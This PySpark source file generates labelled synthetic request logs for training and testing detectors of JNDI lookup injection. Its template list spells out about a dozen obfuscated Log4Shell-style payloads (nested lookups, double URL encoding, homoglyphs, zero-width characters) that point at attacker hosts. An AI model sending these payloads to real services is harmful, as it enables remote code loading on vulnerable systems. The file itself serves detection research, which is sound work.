"""Request lines derived from the ``events`` and ``pages`` tables.

The given tables hold no attack text. Each event becomes one request line by integer arithmetic on its
keys, so that Spark and any other engine derive the same rows and the work grows with the tables.
"""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from logtriage.functions.text import swap
from logtriage.plans.templates import (
    ATTACK_HOSTS,
    DOTLESS_J,
    GREEK_J,
    ZWSP,
)
from logtriage.session import built_once

# (family, label, payload): ``{h}`` is a host, ``{u}`` the path of a page. Every signal and every decoding step has a line.
LINE_TEMPLATES = [
    ("normal_web", 0, "HEAD {u} HTTP/2"),
    ("normal_web", 0, "GET {u}?page=2&sort=price HTTP/1.1"),
    ("normal_web", 0, "PUT /profile/settings HTTP/1.1 Content-Length: 42"),
    ("documentation", 0, "GET /wiki/upgrading-the-logging-library HTTP/1.1"),
    ("keyword_only", 0, "worker 7 resolved 3 names through JNDI in 12 ms"),
    ("keyword_only", 0, "ldap bind for service account finished, 200 entries cached"),
    ("keyword_only", 0, "retry 2 of 5: dns lookup of mirror took 40%25 of the budget"),
    ("documentation", 0, "chapter 4 of the handbook covers naming services"),
    ("escaped_payload", 0, "ticket 118 quotes the escaped payload \\${jndi:ldap://{h}/t118}"),
    ("documentation", 0, "release notes: lookups of the form ${env:HOME} are no longer expanded"),
    ("documentation_example", 0, "training slide shows ${jndi:ldap://{h}/slide} as text"),
    ("benign_encoded_search_query", 0, "GET /find?term=%24%7Bdate%3Ayyyy%7D&lang=en HTTP/1.1"),
    ("plain_jndi", 1, "${jndi:ldap://{h}/p1}"),
    ("simple_url_encoded", 1, "%24%7Bjndi%3Aldap%3A%2F%2F{h}%2Fp2%7D"),
    ("nested_lookup", 1, "${${upper:j}n${lower:D}i:ldap://{h}/p3}"),
    ("env_fallback", 1, "${j${env:UNSET_A:-n}d${env:UNSET_B:-i}:ldap://{h}/p4}"),
    ("fragmented_tokens", 1, "${${::-j}n${::-d}${::-i}:rmi://{h}/p5}"),
    ("double_url_encoding", 1, "%2524%257Bjndi%253Adns%253A%252F%252F{h}%257D"),
    ("unicode_escape", 1, "\\u0024{jnd\\u0069:ldap://{h}/p7}"),
    ("comment_injection", 1, "${jn${/*-*/}di:ldap://{h}/p8}"),
    ("zero_width_jndi", 1, "${jn" + ZWSP + "di:ldap://{h}/p9}"),
    ("homoglyph_jndi", 1, "${" + GREEK_J + "ndi:ldap://{h}/p10}${" + DOTLESS_J + "}"),
    ("html_entity_jndi", 1, "${&#x6A;ndi:ldaps://{h}/p11}"),
    ("protocol_fragment_sys_lookup", 1, "${jndi:${sys:none:-r}mi://{h}/p12}"),
]
LINE_FIELDS = ["minimal_query", "user_agent_minimal", "body", "context"]
# Splits of the malicious families; benign lines rotate through ``BENIGN_SPLITS``.
LINE_SPLITS = {
    "plain_jndi": "train",
    "simple_url_encoded": "train",
    "html_entity_jndi": "val",
    "protocol_fragment_sys_lookup": "ood_stress_test",
    "nested_lookup": "unseen_obfuscation_test",
    "env_fallback": "unseen_obfuscation_test",
    "fragmented_tokens": "unseen_obfuscation_test",
    "double_url_encoding": "unseen_obfuscation_test",
    "unicode_escape": "test",
    "comment_injection": "adversarial_evasion_test",
    "zero_width_jndi": "adversarial_evasion_test",
    "homoglyph_jndi": "adversarial_evasion_test",
}
BENIGN_SPLITS = ["train", "train", "train", "val", "test", "hard_negative_test", "blind_manual_test", "ood_stress_test"]


def read_table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def _pick(values: list, index: Column) -> Column:
    return F.element_at(F.array(*[F.lit(v) for v in values]), index.cast("int") + 1)


@built_once
def _template_columns() -> dict[str, Column]:
    number = F.col("tpl_id")
    return {
        "family": _pick([t[0] for t in LINE_TEMPLATES], number),
        "label": _pick([t[1] for t in LINE_TEMPLATES], number),
        "payload": _pick([t[2] for t in LINE_TEMPLATES], number),
        "host": _pick(ATTACK_HOSTS, F.pmod("user_id", F.lit(len(ATTACK_HOSTS)))),
    }


@built_once
def _place_columns() -> dict[str, Column]:
    field = F.when(F.col("label") == 0, F.lit("mixed")).otherwise(
        _pick(LINE_FIELDS, F.pmod("round_no", F.lit(len(LINE_FIELDS))))
    )
    split_map = F.create_map(*[F.lit(item) for pair in LINE_SPLITS.items() for item in pair])
    benign = _pick(BENIGN_SPLITS, F.pmod("round_no", F.lit(len(BENIGN_SPLITS))))
    filled = F.replace(swap(F.col("payload"), "{u}", "{h}"), F.lit("{h}"), F.coalesce("_path", "host"))
    return {"field": field, "split": F.coalesce(F.try_element_at(split_map, F.col("family")), benign), "payload": filled}


@built_once
def _line_column() -> Column:
    field, payload = F.col("field"), F.col("payload")
    return (
        F.when(field == "minimal_query", F.concat(F.lit("GET /?q="), payload, F.lit(" HTTP/1.1")))
        .when(field == "user_agent_minimal", F.concat(F.lit("Request from User-Agent: "), payload))
        .when(field == "body", F.concat(F.lit("POST /search HTTP/1.1 Host: app.local Body: query="), payload))
        .otherwise(payload)
    )


def from_events(events: DataFrame, pages: DataFrame) -> DataFrame:
    """One request line per event; works on a streaming ``events`` as well.

    Only lines that show a page path are joined with ``pages``. The other lines carry a key of their own that
    matches nothing, so the unmatched side of the join spreads over all partitions.
    """
    lines = events.select(
        F.col("event_id").alias("log_id"),
        "ts",
        "user_id",
        F.pmod("event_id", F.lit(len(LINE_TEMPLATES))).alias("tpl_id"),
        F.floor(F.col("event_id") / len(LINE_TEMPLATES)).alias("round_no"),
    ).withColumns(_template_columns())
    page_count = pages.agg(F.count("page_id").alias("n")).select("n").scalar()
    shows_page = F.contains(F.col("payload"), F.lit("{u}"))
    lines = lines.withColumn(
        "_page", F.when(shows_page, F.pmod(F.col("log_id"), page_count)).otherwise(-1 - F.col("log_id"))
    )
    paths = pages.select(
        F.col("page_id").alias("_page"), F.regexp_extract("url", r"^https?://[^/]+(/.*)$", 1).alias("_path")
    )
    lines = lines.join(paths, "_page", "left").withColumns(_place_columns())
    return lines.select(
        "log_id", "ts", "user_id", "tpl_id", "family", "label", "host", "field", "split", _line_column().alias("raw_log")
    )


def request_logs(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Lines of all events. Three narrow columns are dealt out anew: decoding a line costs far more than moving its key.

    The number of partitions is given, because narrow rows would be put into one or two tasks by their size in bytes.
    """
    tasks = int(spark.conf.get("spark.sql.shuffle.partitions"))
    events = read_table(spark, sf_dir, "events").select("event_id", "ts", "user_id").repartition(tasks, "event_id")
    return from_events(events, read_table(spark, sf_dir, "pages"))


def _density(c: Column) -> Column:
    """Weighted share of lookup and escape characters: an integer count over 1000, at most 1."""

    def count(char: str) -> Column:
        return F.length(c) - F.length(F.replace(c, F.lit(char), F.lit("")))

    total = count("$") * 150 + count("{") * 100 + count("%") * 70 + count(":") * 30
    return F.least(total, F.lit(1000)) / F.lit(1000.0)


def scored_logs(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Labelled lines with a score per detector.

    The signature score is the real one. The three others stand in for learned scores, so that every report can
    be restated in plain SQL; ``operators.learned`` trains the real ones.
    """
    from logtriage.operators.canonical import drop_internal, label_columns
    from logtriage.operators.detect import with_signature
    from logtriage.schema import SIGNAL_KEYS

    lines = with_signature(request_logs(spark, sf_dir)).withColumns(label_columns())
    hits = sum((F.col(key).cast("int") for key in SIGNAL_KEYS), F.lit(0))
    scored = lines.withColumns(
        {
            "id": F.format_string("LS-%06d", F.col("log_id") + 1),
            "source": F.when(F.col("label") == 1, F.lit("synthetic")).otherwise(F.lit("benign_logs")),
            "obfuscation_type": F.when(F.col("label") == 1, F.col("obfuscation_type")).otherwise(F.col("family")),
            "score_signature": F.col("sig_score"),
            "score_raw": _density(F.col("raw_log")),
            "score_normalized": _density(F.col("normalized_log")),
            "score_signal": hits / F.lit(float(len(SIGNAL_KEYS))),
        }
    )
    return drop_internal(scored).drop("matched_patterns", "sig_score", "detected_patterns", *SIGNAL_KEYS)


def feed_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Feed rows ``(line, tpl_id, shape, raw_log)`` in five shapes made from the request lines."""
    logs = request_logs(spark, sf_dir)
    raw = F.col("raw_log")
    quoted = swap(swap(raw, "\\", "\\\\"), '"', '\\"')
    hidden = swap(quoted, "$", "\\u0024")
    shape = F.pmod("log_id", F.lit(5))
    lit = F.lit
    text = (
        F.when(
            shape == 0,
            F.concat(lit('2021-12-15T16:12:36Z",1,"'), "log_id", lit('","logstash",,"_doc","'), raw, lit('"')),
        )
        .when(shape == 1, F.concat(lit('{"seen":1,"event":{"message":"'), quoted, lit('"}}')))
        .when(shape == 2, raw)
        .when((shape == 3) & (F.col("tpl_id") < 4), lit(FEED_HEADER))
        .when(shape == 3, F.concat(lit('{"payload":"'), hidden, lit('","n":1}')))
        .otherwise(F.concat(lit('["row",{"request":"'), hidden, lit('"}]')))
    )
    return logs.select((F.col("log_id") + 1).alias("line"), "tpl_id", shape.alias("shape"), text.alias("raw_log"))


FEED_HEADER = '"@timestamp","@version","_id","_index","_score","_type","headers.user-agent"'


def packet_rows(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Packet rows ``(line, frame_time, ip_src, method, host, uri, user_agent)``; some fields are missing."""
    logs = request_logs(spark, sf_dir)
    attack_agent = F.col("tpl_id") % 2 == 0
    return logs.select(
        (F.col("log_id") + 1).alias("line"),
        F.when(F.col("log_id") % 3 > 0, F.date_format("ts", "yyyy-MM-dd HH:mm:ss")).alias("frame_time"),
        F.concat(F.lit("10.0.0."), F.pmod("user_id", F.lit(250))).alias("ip_src"),
        F.lit("GET").alias("method"),
        F.col("host"),
        F.when(attack_agent, F.lit("/")).otherwise(F.concat(F.lit("/?q="), "raw_log")).alias("uri"),
        F.when(attack_agent, F.col("raw_log")).alias("user_agent"),
    )


def page_hosts(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The distinct hosts of the pages, each numbered by its first page: the hosts of template expansion."""
    pages = read_table(spark, sf_dir, "pages")
    host = F.regexp_extract("url", r"^https?://([^/]+)", 1).alias("host")
    return pages.groupBy(host).agg(F.min("page_id").alias("host_no")).select("host_no", "host")
